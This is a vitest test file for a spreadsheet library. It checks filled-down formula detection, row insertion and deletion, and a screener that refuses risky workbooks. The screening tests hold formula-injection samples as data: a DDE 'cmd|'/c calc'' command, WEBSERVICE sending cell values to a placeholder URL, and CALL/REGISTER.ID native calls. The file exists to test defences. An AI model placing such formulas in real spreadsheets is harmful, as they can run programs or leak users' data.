import { describe, expect, test } from 'vitest';
import { FilledDown } from '../src/formula/filled-down.ts';
import { openScreened } from '../src/index.ts';
import { deleteRows, insertRows } from '../src/rows/change-rows.ts';
import { screenWorkbook } from '../src/screen/screen.ts';
import { SharedStrings } from '../src/sheet/shared-strings.ts';
import { SheetCells } from '../src/sheet/sheet-cells.ts';
import { smallPackage } from './small-package.ts';
import { escapeMarkup, sheetXml, smallWorkbook } from './small-workbook.ts';

type Make = (row: number) => string;

const lookUp: Make = (n) => `IFERROR(VLOOKUP($A${n},_SYNC_STATUS!$A:$D,2,0),"")`;
const column = (make: Make, rows: number): string =>
  Array.from({ length: rows }, (_, at) => at + 1)
    .map((n) => `<row r="${n}"><c r="A${n}"><v>1</v></c><c r="B${n}"><f>${escapeMarkup(make(n))}</f><v>0</v></c></row>`)
    .join('');

describe('a formula with its row number taken out', () => {
  test.each<[string, Make, Make, boolean]>([
    ['its own row', lookUp, lookUp, true],
    ['several times', (n) => `A${n}+B${n}*C${n}`, (n) => `A${n}+B${n}*C${n}`, true],
    ['nothing of the row', () => 'SUM(A:A)', () => 'SUM(A:A)', true],
    ['another row', (n) => `A${n}`, (n) => `A${n + 1}`, false],
    ['a row that is fixed', (n) => `A${n}+A$9`, (n) => `A${n}+A$8`, false],
    ['a call', (n) => `LOG${n}(A1)`, (n) => `LOG${n}(A1)`, false],
    ['part of a name', (n) => `Rate${n}_x`, (n) => `Rate${n}_x`, false],
    ['a number', (n) => `A1*${n}`, (n) => `A1*${n}`, false],
    ['more behind it', (n) => `A${n}`, (n) => `A${n}+1`, false],
  ])('%s', (_, first, second, same) => {
    const [one, other] = [Buffer.from(first(10)), Buffer.from(`${second(1234)}</f>`)];
    const end = FilledDown.of(one, 0, one.length, 10).endIn(other, 0, 1234);
    expect(end > 0 && other[end] === 0x3c).toBe(same);
  });
});

describe('R2: formulas that were filled down move as the thorough way moves them', () => {
  test.each<[string, Make]>([
    ['look-up', lookUp],
    ['own row and a fixed one', (n) => `A${n}*$A$7+A$30`],
    ['rows above and below', (n) => `A${n + 1}-A${Math.max(1, n - 1)}`],
    ['from the top', (n) => `SUM(A$2:A${n})`],
    ['to the end', (n) => `SUM(A${n}:A$40)`],
    ['another sheet', (n) => `Other!A${n}+A${n}`],
    ['a text', (n) => `"A${n}"&A${n}`],
    ['the rows turn', (n) => `SUM(A${41 - n}:A${n})`],
  ])('%s', (_, make) => {
    for (const [inserts, deletes] of [
      [[{ at: 8, count: 3 }], []],
      [[], [{ at: 6, count: 2 }]],
      [[], [{ at: 29, count: 3 }]],
    ] as const) {
      const [quick, thorough] = [true, false].map((scanned) => {
        const pkg = smallPackage({
          sheets: [
            { name: 'Plan', xml: `<sheetData>${column(make, 40)}</sheetData>` },
            { name: 'Other', xml: '<sheetData/>' },
          ],
        });
        const part = 'xl/worksheets/sheet1.xml';
        const strings = () => new SharedStrings(Buffer.from('<sst/>'), 0);
        const cells = scanned ? new SheetCells(pkg.utf8(part), pkg.limits, strings, false) : undefined;
        insertRows(pkg, part, inserts, cells);
        deleteRows(pkg, part, deletes, cells);
        return pkg.bytes(part).toString('utf8');
      });
      expect(quick).toBe(thorough);
    }
  });
});

describe('a formula among those that were filled down is screened', () => {
  const odd: readonly [string, Make][] = [
    ['a call to the net', (n) => `WEBSERVICE("http://x/"&A${n})`],
    ['another workbook', (n) => `'http://x/[1]S'!A${n}`],
    ['another program', (n) => `cmd|'/c calc'!A${n}`],
    ['the same and more', (n) => `${lookUp(n)}&CALL("a")`],
    ['a call with the number of the row', (n) => `REGISTER.ID(A${n})`],
  ];
  test.each(odd)('%s', (_, make) => {
    const rows = column((n) => (n === 17 ? make(n) : lookUp(n)), 30);
    const { verdict, findings } = screenWorkbook(smallWorkbook({ 'xl/worksheets/sheet1.xml': sheetXml(rows) }));
    expect(verdict).not.toBe('accept');
    expect(new Set(findings.map(({ cell }) => cell))).toEqual(new Set(['B17']));
  });

  test('in a cell that comes twice', () => {
    const twice = '<row r="2"><c r="B2"><f>CALL("a")</f></c><c r="B2"><f>A2</f></c></row>';
    expect(screenWorkbook(smallWorkbook({ 'xl/worksheets/sheet1.xml': sheetXml(twice) })).verdict).toBe('refuse');
  });

  test('in a format, beside plain rows', () => {
    const format =
      '<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>CALL("a")</formula></cfRule></conditionalFormatting>';
    const part = { 'xl/worksheets/sheet1.xml': sheetXml(column(lookUp, 9), format) };
    expect(screenWorkbook(smallWorkbook(part)).verdict).toBe('refuse');
  });
});

describe('a workbook is screened and opened in one', () => {
  test.each<[string, Make, boolean]>([
    ['accepted', lookUp, true],
    ['refused', (n) => `CALL("a",A${n})`, false],
  ])('%s', (_, make, opens) => {
    const bytes = smallWorkbook({ 'xl/worksheets/sheet1.xml': sheetXml(column(make, 20)) });
    const { workbook, ...result } = openScreened(bytes);
    expect(result).toEqual(screenWorkbook(bytes));
    expect(workbook?.sheets[0]?.cell(20, 2)?.formula?.text).toBe(opens ? lookUp(20) : undefined);
  });

  test('what is no workbook is refused', () =>
    expect(openScreened(Buffer.from('x'))).toMatchObject({ verdict: 'refuse', workbook: null }));
});
